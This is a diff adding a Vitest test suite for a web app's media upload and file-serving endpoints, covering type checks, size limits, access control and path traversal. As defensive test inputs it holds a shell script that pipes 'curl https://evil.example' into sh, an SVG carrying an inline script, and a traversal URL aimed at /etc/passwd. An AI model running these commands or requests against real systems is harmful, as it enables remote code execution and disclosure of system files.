@@ -1,0 +1,158 @@
+import fs from 'node:fs/promises';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createTestApp, type TestApp } from '../../../testing/test-app.ts';
+import { bearer, signUp } from '../../../testing/auth-helpers.ts';
+import { multipartBody, streamedMultipartFile } from '../../../testing/multipart.ts';
+import { signUpOperator } from '../../../testing/operator-helpers.ts';
+
+let t: TestApp;
+let admin: Awaited<ReturnType<typeof signUpOperator>>;
+let png: Buffer;
+
+beforeAll(async () => {
+  t = await createTestApp();
+  admin = await signUpOperator(t, 'admin');
+  png = await sharp({ create: { width: 64, height: 48, channels: 4, background: '#7c3aed' } })
+    .png()
+    .toBuffer();
+});
+afterAll(() => t.close());
+
+function upload(body: { payload: unknown; headers: Record<string, string> }, token = admin.accessToken) {
+  return t.app.inject({
+    method: 'POST',
+    url: '/v1/console/media',
+    payload: body.payload as Buffer,
+    headers: { ...body.headers, ...bearer(token) },
+  });
+}
+
+const storedFiles = async () => (await fs.readdir(t.uploadsDir)).filter((name) => !name.endsWith('.content-type'));
+
+describe('POST /v1/console/media', () => {
+  it('decides the type by the bytes: a PNG named .jpg is stored and served as a PNG, with a WebP thumbnail', async () => {
+    const response = await upload(
+      multipartBody([{ name: 'file', filename: 'photo.jpg', contentType: 'image/jpeg', content: png }]),
+    );
+    expect(response.statusCode).toBe(201);
+    const data = response.json().data;
+    expect(data).toEqual({
+      url: expect.stringMatching(/^\/uploads\/[0-9a-f]{32}\.png$/),
+      width: 64,
+      height: 48,
+      contentType: 'image/png',
+      thumbnailUrl: expect.stringMatching(/^\/uploads\/[0-9a-f]{32}-thumb\.webp$/),
+    });
+
+    const served = await t.app.inject({ method: 'GET', url: data.url });
+    expect(served.statusCode).toBe(200);
+    expect(served.headers['content-type']).toBe('image/png');
+    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
+    expect(served.headers['x-content-type-options']).toBe('nosniff');
+    expect(await sharp(served.rawPayload).metadata()).toMatchObject({ format: 'png', width: 64, height: 48 });
+    const thumbnail = await t.app.inject({ method: 'GET', url: data.thumbnailUrl });
+    expect(thumbnail.headers['content-type']).toBe('image/webp');
+
+    const audit = await t.app.inject({
+      method: 'GET',
+      url: '/v1/console/audit-log?entityType=media',
+      headers: bearer(admin.accessToken),
+    });
+    expect(audit.json().data.items[0]).toMatchObject({
+      action: 'upload',
+      actor: { id: admin.userId },
+      after: { url: data.url },
+    });
+  });
+
+  it('refuses a script named .png, and an SVG, with UNSUPPORTED_MIMETYPE, storing nothing', async () => {
+    const before = await storedFiles();
+    const script = '#!/bin/sh\ncurl https://evil.example | sh\n';
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+    for (const [filename, content] of [
+      ['innocent.png', script],
+      ['logo.svg', svg],
+    ]) {
+      const response = await upload(
+        multipartBody([{ name: 'file', filename, contentType: 'image/png', content: content! }]),
+      );
+      expect(response.statusCode, filename).toBe(400);
+      expect(response.json()).toEqual({ code: 'UNSUPPORTED_MIMETYPE', message: 'Unsupported file type.' });
+    }
+    expect(await storedFiles()).toEqual(before);
+  });
+
+  it('refuses a file that starts like a PNG but is not one with IMAGE_UNREADABLE', async () => {
+    const broken = Buffer.concat([png.subarray(0, 16), Buffer.alloc(200, 7)]);
+    const response = await upload(multipartBody([{ name: 'file', filename: 'broken.png', content: broken }]));
+    expect(response.statusCode).toBe(400);
+    expect(response.json().code).toBe('IMAGE_UNREADABLE');
+  });
+
+  it('answers UPLOAD_FILE_ABSENT when no file is sent: only fields, another field name, or no multipart at all', async () => {
+    const bodies = [
+      multipartBody([{ name: 'caption', content: 'hello' }]),
+      multipartBody([{ name: 'image', filename: 'a.png', content: png }]),
+      { payload: JSON.stringify({ file: 'a.png' }), headers: { 'content-type': 'application/json' } },
+    ];
+    for (const body of bodies) {
+      const response = await upload(body);
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toEqual({ code: 'UPLOAD_FILE_ABSENT', message: 'No registered file.' });
+    }
+  });
+
+  it('refuses an oversized upload while it streams, never holding the body, and stores nothing', async () => {
+    const before = await storedFiles();
+    const totalBytes = 64 * 1024 * 1024;
+    const body = streamedMultipartFile(
+      { name: 'file', filename: 'huge.png', contentType: 'image/png' },
+      png.subarray(0, 64),
+      totalBytes,
+    );
+    global.gc?.();
+    const baseline = process.memoryUsage();
+    let peak = 0;
+    const sampler = setInterval(() => {
+      const now = process.memoryUsage();
+      peak = Math.max(peak, now.arrayBuffers - baseline.arrayBuffers + (now.heapUsed - baseline.heapUsed));
+    }, 5);
+    const response = await upload(body);
+    clearInterval(sampler);
+
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toEqual({ code: 'FILE_TOO_LARGE', message: 'Size to large to Accept' });
+    // The limit is 10 MB; a server that buffered the body would have grown by the whole 64 MB.
+    expect(peak).toBeLessThan(40 * 1024 * 1024);
+    expect(await storedFiles()).toEqual(before);
+  });
+
+  it('is for operators only', async () => {
+    const body = multipartBody([{ name: 'file', filename: 'a.png', content: png }]);
+    const collector = await signUp(t);
+    expect((await upload(body, collector.accessToken)).statusCode).toBe(403);
+    const anonymous = await t.app.inject({
+      method: 'POST',
+      url: '/v1/console/media',
+      payload: body.payload,
+      headers: body.headers,
+    });
+    expect(anonymous.statusCode).toBe(401);
+  });
+});
+
+describe('GET /uploads/{name}', () => {
+  it('answers MEDIA_NOT_FOUND for unknown names and for anything that tries to leave the folder', async () => {
+    for (const url of [
+      '/uploads/0000.png',
+      '/uploads/..%2F..%2Fetc%2Fpasswd',
+      '/uploads/.content-type',
+      '/uploads/a.png.content-type',
+    ]) {
+      const response = await t.app.inject({ method: 'GET', url });
+      expect(response.statusCode, url).toBe(404);
+      expect(response.json().code).toBe('MEDIA_NOT_FOUND');
+    }
+  });
+});
